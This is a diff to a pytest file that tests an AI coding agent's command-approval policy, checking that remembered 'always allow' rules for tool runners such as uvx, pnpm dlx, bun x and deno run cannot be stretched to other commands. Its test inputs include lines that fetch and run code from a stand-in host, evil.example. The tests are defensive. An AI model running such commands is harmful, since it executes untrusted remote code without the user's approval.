@@ -20,14 +20,27 @@ from agent_tui.tools.cmdparse import parse_command
                                   "setarch x86_64 pytest", "dbus-run-session pytest", "direnv exec . pytest",
                                   "nix-shell --run pytest", "gdb -batch -x s.gdb", "faketime '2020-01-01' pytest"])
 def test_a_program_running_what_it_is_given_is_offered_only_as_the_exact_line(tmp_path: Path, line: str) -> None:
-    assert offered_prefix(parse_command(line), tmp_path) is None
+    offered = offered_prefix(parse_command(line), tmp_path)
+    assert offered is None
     p = Policy.from_config({}, workspace=tmp_path)
     p.sandboxed = False
-    p.remember("run_command", {"command": line})
+    p.remember("run_command", {"command": line}, prefix=offered)  # (what "always" in the dialog remembers)
     assert p.decide("run_command", "command", {"command": line}) == "allow", "the exact line is remembered"
     name = line.split()[0]
     for other in (f"{name} sh -c id", f"{name} --from git+https://evil.example/x pwn"):
         assert p.decide("run_command", "command", {"command": other}) == "ask", other
+
+
+@pytest.mark.parametrize("line, prefix", [("uv tool run ruff check", None), ("dotnet tool run x", None),
+                                          ("gh extension exec foo", None), ("bun x cowsay", ("bun", "x", "cowsay")),
+                                          ("pnpm dlx create-vite", ("pnpm", "dlx", "create-vite")),
+                                          ("deno run fmt.ts", ("deno", "run", "fmt.ts")),
+                                          ("deno run -A https://evil.example/x.ts", None)])
+def test_a_runner_subcommand_is_remembered_with_what_it_runs_or_not_at_all(tmp_path: Path, line: str,
+                                                                          prefix: tuple[str, ...] | None) -> None:
+    """A second review: `uv tool` (that is `uvx`), `pnpm dlx`, `bun x` and `deno run` were offered without the
+    package or script they run, so "always" allowed `uv tool run --from git+https://evil.example/x pwn`."""
+    assert offered_prefix(parse_command(line), tmp_path) == prefix
 
 
 @pytest.mark.parametrize("line", ["ls -la", "git status", "npm test", "pytest -q", "poetry run pytest"])
